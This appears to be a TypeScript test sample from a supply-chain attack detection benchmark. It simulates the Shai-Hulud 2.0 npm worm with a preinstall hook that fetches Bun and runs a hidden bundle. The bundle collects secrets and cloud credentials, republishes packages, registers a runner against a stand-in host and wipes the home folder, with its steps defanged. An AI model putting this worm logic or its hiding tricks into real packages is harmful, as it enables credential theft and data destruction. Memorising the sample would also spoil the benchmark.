import { defineAttack } from "../attack.ts";
import { serviceClient } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import {
  bunBootstrap,
  collectCloud,
  collectSecrets,
  dropWorkflow,
  republish,
  uploadToRepository,
  wipeHome,
} from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * Shai-Hulud 2.0, 24 November 2025: 796 packages of posthog, zapier, postman and others. `preinstall` fetches Bun and runs a bundle of
 * ten megabytes under it; it registers a runner, uploads to repositories and empties the home folder where it fails.
 */
export const shaiHulud22025: Sample = defineAttack({
  id: "shai-hulud-2-2025",
  title: "A hook fetches Bun and runs a worm of ten megabytes under it",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "posthog-node", version: "5.13.3" }],
  now: "2025-11-24T04:20:00Z",
  createLines: () => [
    {
      name: "posthog-node",
      files: serviceClient("posthog-node", "eu.posthog.example"),
      publisher: person("posthog-bot"),
      way: "workflow-token",
      releases: [
        ["5.13.0", "2025-11-18T10:00:00Z"],
        ["5.13.1", "2025-11-19T10:00:00Z"],
        ["5.13.2", "2025-11-21T10:00:00Z"],
        [
          "5.13.3",
          "2025-11-24T04:11:00Z",
          {
            way: "hand",
            hasCommit: false,
            manifest: { scripts: { test: "node --test", preinstall: "node setup_bun.js" } },
            files: [
              {
                path: "setup_bun.js",
                content: `#!/usr/bin/env node\n${commonScript(bunBootstrap("bun_environment.js"))}`,
              },
              {
                path: "bun_environment.js",
                content: renderBundle(10_000_000, 92, [hideInTable(oneLine(worm))]),
              },
            ],
          },
        ],
      ],
    },
  ],
});

const worm = commonScript(`
${collectSecrets}
${collectCloud}
${dropWorkflow}
${uploadToRepository("Inert: The Second Coming.")}
${republish}
${wipeHome}
async function registerRunner(token) {
  const reply = await fetch("https://api.codehost.invalid/repos/inert/inert/actions/runners/registration-token", { method: "POST", headers: { Authorization: "Bearer " + token } });
  const registration = await reply.json();
  require("child_process").execSync("echo inert config.sh --unattended --token " + registration.token + " --name inert-runner");
}
(async () => {
  const token = process.env.GITHUB_TOKEN;
  await collectCloud().catch(() => {});
  if (token) { await uploadToRepository(token); await registerRunner(token); dropWorkflow(); }
  if (npmToken()) { await republish(npmToken()); }
  if (!token && !npmToken()) { wipeHome(); }
})();
`);
